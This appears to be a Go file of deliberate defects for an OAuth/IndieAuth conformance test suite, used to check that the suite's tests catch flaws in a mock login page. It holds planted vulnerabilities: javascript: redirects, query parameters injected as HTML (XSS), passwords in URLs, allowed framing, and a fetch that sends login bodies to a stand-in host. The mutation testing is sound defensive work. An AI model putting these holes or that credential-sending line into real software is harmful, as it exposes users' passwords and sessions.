package defects

import (
	"github.com/authconform/authconform/mockserver"
)

var loginPageSafetyDefects = []Defect[mockserver.Policy]{
	{
		ID: "login.script-redirect", Story: "The page follows a javascript URL that the client lists.",
		Aims: []string{"oauth2.redirect.dangerous-schemes", "oauth2.redirect.script-listed-server"},
		Change: both(letsNear(func(l, r string) bool {
			return l == r
		}), unpoliced, edits(edit{"request.js", "if (dangerous.has(scheme))", `if (dangerous.has(scheme) && scheme !== "javascript:")`})),
	},
	{
		ID: "login.last-of-two", Story: "If a parameter is repeated, one of its values is used.",
		Aims:   []string{"oauth2.authz.no-duplicates"},
		Change: reworded("request.js", "if (all.length > 1)", "if (false)"),
	},
	{
		ID: "login.checked-first-used-last", Story: "Of two redirect URIs, the first is checked and the last is used.",
		Aims: []string{"oauth2.authz.no-duplicates", "oauth2.authz.duplicates-safe"},
		Change: edits(
			edit{"request.js", "if (all.length > 1)", "if (false)"},
			edit{"request.js", `request.redirectUri.split("#")`, `new URLSearchParams(location.search).getAll("redirect_uri").at(-1).split("#")`},
		),
	},
	{
		ID: "login.checked-last-used-first", Story: "Of two redirect URIs, the last is checked and the first is used.",
		Aims: []string{"oauth2.authz.no-duplicates", "oauth2.authz.duplicates-safe"},
		Change: edits(
			edit{"request.js", "if (all.length > 1)", "if (false)"},
			edit{"request.js", `const redirectUri = query.get("redirect_uri");`, `const redirectUri = query.getAll("redirect_uri").at(-1);`},
			edit{"request.js", `request.redirectUri.split("#")`, `new URLSearchParams(location.search).get("redirect_uri").split("#")`},
		),
	},
	{
		ID: "login.client-unnamed", Story: "A foreign client's name is not shown.",
		Aims:   []string{"indieauth.authz.prompt-client-id"},
		Change: reworded("authorize.js", "if (!request.foreign) return null;", "return null;"),
	},
	{
		ID: "login.client-calls-itself", Story: "The page shows neither the client id nor the redirect's site.",
		Aims: []string{"indieauth.authz.prompt-client-id"},
		Change: edits(
			edit{"authorize.js", "client?.hostname || request.clientId", `"An app"`},
			edit{"authorize.js", "client?.href ?? request.clientId", `"an app"`},
			edit{"authorize.js", "web ? to.origin + to.pathname", `web ? "its site"`},
		),
	},
	{
		ID: "login.framed", Story: "The login page may be framed.",
		Aims:   []string{"ha.headers.frame", "ha.advisory.framing", "ha.page.framing"},
		Change: answers(at("GET /auth/authorize"), header("X-Frame-Options", "")),
	},
	{
		ID: "login.password-in-query", Story: "The password is also sent in the query.",
		Aims: []string{"ha.page.no-password-in-url"},
		Change: reworded(
			"flow.js",
			"call(\"POST\", `/auth/login_flow/${encodeURIComponent(flowId)}`, {",
			"call(\"POST\", `/auth/login_flow/${encodeURIComponent(flowId)}?p=${encodeURIComponent(fields.password ?? \"\")}`, {",
		),
	},
	{
		ID: "login.password-elsewhere", Story: "Keystrokes are also sent to another site.",
		Aims: []string{"ha.page.no-password-in-url", "ha.page.own-origin"},
		Change: both(
			unpoliced,
			edits(edit{
				"flow.js",
				"async function call(method, path, body) {",
				`async function call(method, path, body) {
				if (body) fetch("http://127.0.0.1:1/", { method: "POST", body: JSON.stringify(body), mode: "no-cors" }).catch(() => {});`,
			}),
		),
	},
	{
		ID: "login.referer", Story: "The callback learns the login page's full URL.",
		Aims: []string{"ha.headers.referrer", "ha.page.no-referer"},
		Change: both(
			answers(at("GET /auth/authorize"), header("Referrer-Policy", "unsafe-url")),
			edits(edit{"authorize.html", `<meta name="referrer" content="no-referrer" />`, `<meta name="referrer" content="unsafe-url" />`}),
		),
	},
	{
		ID: "login.foreign-picture", Story: "The page loads an image from another site.",
		Aims:   []string{"ha.page.own-origin"},
		Change: both(unpoliced, edits(edit{"authorize.html", `<img src="/static/favicon.svg"`, `<img src="http://127.0.0.1:1/logo.svg"`})),
	},
	{
		ID: "login.client-as-markup", Story: "The client id is inserted into the page as markup.",
		Aims: []string{"ha.page.input-not-run"},
		Change: both(
			unpoliced,
			more(`document.body.insertAdjacentHTML("beforeend", new URLSearchParams(location.search).get("client_id") ?? "");`),
		),
	},
	{
		ID: "login.redirect-as-markup", Story: "The redirect URI is inserted into the page as markup.",
		Aims: []string{"ha.page.input-not-run"},
		Change: both(
			unpoliced,
			more(`document.body.insertAdjacentHTML("beforeend", new URLSearchParams(location.search).get("redirect_uri") ?? "");`),
		),
	},
	{
		ID: "login.state-as-markup", Story: "The state is inserted into the page as markup.",
		Aims:   []string{"ha.page.input-not-run"},
		Change: both(unpoliced, more(`document.body.insertAdjacentHTML("beforeend", new URLSearchParams(location.search).get("state") ?? "");`)),
	},
	{
		ID: "login.password-shown", Story: "The password is visible while it is typed.",
		Aims:   []string{"ha.page.password-field"},
		Change: reworded("authorize.js", `{ type: "password", autocomplete`, `{ type: "text", autocomplete`),
	},
	{
		ID: "login.no-autocomplete", Story: "The page blocks password managers.",
		Aims:   []string{"ha.page.password-field"},
		Change: reworded("authorize.js", `autocomplete: "current-password"`, `autocomplete: "off"`),
	},
	{
		ID: "login.no-name-autocomplete", Story: "The user name field has no autocomplete attribute.",
		Aims:   []string{"ha.page.password-field"},
		Change: reworded("authorize.js", `autocomplete: "username"`, `autocomplete: "off"`),
	},
	{
		ID: "login.unlabelled", Story: "The labels are not associated with their fields.",
		Aims:   []string{"ha.page.labelled"},
		Change: reworded("authorize.js", `h("label", { for: name }, label)`, `h("span", {}, label)`),
	},
	{
		ID: "login.unknown-sent-back", Story: "An unknown parameter sends the user back with an error after the login.",
		Aims:   []string{"oauth2.authz.ignore-unknown"},
		Change: codeless(`has("foo")`),
	},
	{
		ID: "login.response-type-sent-back", Story: "Without response_type the user is sent back with an error, after the login.",
		Aims:   []string{"ha.authorize.no-response-type"},
		Change: codeless(`get("response_type") === null`),
	},
	{
		ID: "login.default-redirect", Story: "Without a redirect_uri, the page redirects to the client id.",
		Aims: []string{"oauth2.redirect.missing-uri"},
		Change: reworded(
			"request.js",
			`const redirectUri = query.get("redirect_uri");`,
			`const redirectUri = query.get("redirect_uri") || query.get("client_id") + "callback";`,
		),
	},
	{
		ID: "login.relative-redirect", Story: "A relative redirect_uri is resolved against the client id.",
		Aims: []string{"oauth2.redirect.missing-uri"},
		Change: reworded(
			"request.js",
			`const redirectUri = query.get("redirect_uri");`,
			`const given = query.get("redirect_uri"); const redirectUri = given && new URL(given, clientId).href;`,
		),
	},
	{
		ID: "login.default-client", Story: "Without a client_id the redirect's own site is assumed to be the client.",
		Aims: []string{"oauth2.redirect.no-redirect-on-bad-client"},
		Change: reworded(
			"request.js",
			`const clientId = query.get("client_id");`,
			`const clientId = query.get("client_id") || new URL(query.get("redirect_uri")).origin + "/";`,
		),
	},
	{
		ID: "login.mended-client", Story: "An invalid client id is replaced with the redirect's site.",
		Aims: []string{"oauth2.redirect.no-redirect-on-bad-client"},
		Change: reworded(
			"request.js",
			`const clientId = query.get("client_id");`,
			`let clientId = query.get("client_id");
			if (clientId && !/^https?:[^#]*$/.test(clientId)) clientId = new URL(query.get("redirect_uri")).origin + "/";`,
		),
	},
	{
		ID: "login.mute", Story: "A refusal shows a blank page.",
		Aims: []string{"oauth2.redirect.inform-user"},
		Change: reworded(
			"authorize.js",
			failedHead,
			"const failed = () => show(\"Error\", h(\"login-alert\", { class: \"alert\", role: \"alert\" }, \" \"));",
		),
	},
}

// codeless redirects the person without the code, for some requests.
func codeless(where string) change {
	return reworded(
		"request.js",
		"const added = [`code=${encodeURIComponent(code)}`];",
		"const added = [new URLSearchParams(location.search)."+where+" ? \"error=invalid_request\" : `code=${encodeURIComponent(code)}`];",
	)
}
